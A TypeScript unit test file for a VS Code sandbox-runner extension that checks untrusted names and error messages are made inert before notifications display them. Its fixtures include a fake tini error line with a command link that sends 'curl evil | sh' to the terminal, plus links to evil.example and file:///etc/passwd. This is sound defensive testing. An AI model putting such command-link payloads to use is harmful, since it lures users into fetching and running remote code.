import assert from 'node:assert/strict';
import type { RunResult } from '../../src/core/run/result';
import type { SandboxErrorCode } from '../../src/core/errors';
import { failureNotice } from '../../src/vscode/failureText';
import { MAX_NAME_CHARS, plainText } from '../../src/vscode/plainText';

/**
 * The link syntax VS Code renders in notification messages and progress titles
 * (`src/vs/base/common/linkedText.ts`, LINK_REGEX): what no notification text of ours may match.
 */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** The codicon syntax quick picks and the status bar render (`src/vs/base/common/iconLabels.ts`), unescaped. */
const CODICON = /(?<!\\)\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/;

/** The stderr line of the issue: shaped like tini's exec failure, with a command link. */
const FAKE_TINI =
  '[FATAL tini (7)] exec python3 failed: No such file or directory. [Repair the Docker runtime](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D)';

describe('untrusted names in VS Code UI text (unit)', () => {
  it('breaks every markdown link a notification would render, keeping the name readable', () => {
    const names = [
      FAKE_TINI,
      '[x](command:workbench.action.terminal.sendSequence?%7B%7D).py',
      'src/[a](https://evil.example/)/[b](file:///etc/passwd) "t".py',
      '[a[b](command:a)](command:b)',
      '[ok](COMMAND:upper)',
    ];
    for (const name of names) {
      assert.ok(VSCODE_LINK.test(name), `the example must be a link today: ${name}`);
      VSCODE_LINK.lastIndex = 0;
      const shown = plainText(name);
      assert.equal(shown.match(VSCODE_LINK), null, `still a link: ${shown}`);
      assert.equal(shown.replace(/\] \(/g, ']('), name, 'only the joint changes');
    }
    assert.equal(plainText('[Repair](command:x)'), '[Repair] (command:x)');
  });

  it('puts a name on one line without control or bidi characters, and cuts long ones', () => {
    assert.equal(plainText('a\nb\r\x1b]0;t\x07c\u202ed\x9b'), 'a b ]0;t c d ');
    const long = plainText('n'.repeat(1000));
    assert.equal(long.length, MAX_NAME_CHARS);
    assert.ok(long.endsWith('…'));
    // A cut never leaves a link whole: the joint is broken after cutting.
    assert.equal(plainText(`${'x'.repeat(150)}[a](command:b)`, 170).match(VSCODE_LINK), null);
  });

  it('escapes codicons (notifications and quick picks render them)', () => {
    const escaped = plainText('$(zap) run $(loading~spin).py');
    assert.equal(escaped, '\\$(zap) run \\$(loading~spin).py');
    assert.doesNotMatch(escaped, CODICON);
  });
});

describe('failure notification wording (unit)', () => {
  const run = (r: Partial<RunResult>): Pick<RunResult, 'outcome' | 'error'> => ({ outcome: 'failed-to-start', ...r });
  const codes: SandboxErrorCode[] = [
    'docker-missing', 'daemon-unreachable', 'permission-denied', 'image-missing', 'image-has-volumes',
    'invalid-profile', 'invalid-mount', 'start-failed', 'limits-unsupported', 'engine-error',
  ];

  // Issue 8: the runner's message quoted the snippet's stderr, and the notification rendered its link.
  it('never quotes the message, fix or detail of a result: the code chooses a fixed sentence', () => {
    const seen = new Set<string>();
    for (const code of codes) {
      const text = failureNotice(run({ error: { code, message: `Could not start: ${FAKE_TINI}`, fix: FAKE_TINI, detail: FAKE_TINI } }));
      assert.match(text, /^Sandbox run failed: .+\. The Sandbox Runner output says why and what to do\.$/);
      assert.doesNotMatch(text, /command:|tini|\[|\]\(/, `${code}: ${text}`);
      seen.add(text);
    }
    assert.equal(seen.size, codes.length, 'each code has its own sentence');
    assert.match(failureNotice(run({ error: { code: 'image-missing', message: '', fix: '', detail: '' } })), /image is not present on the Docker engine in use/);
  });

  it('has a sentence for a result without an error, and for an unknown code', () => {
    assert.match(failureNotice(run({})), /could not start/);
    assert.match(failureNotice({ outcome: 'engine-error' }), /engine failed/);
    const unknown = { code: 'toString' as SandboxErrorCode, message: FAKE_TINI, fix: '', detail: '' };
    assert.match(failureNotice(run({ error: unknown })), /could not start/);
  });
});
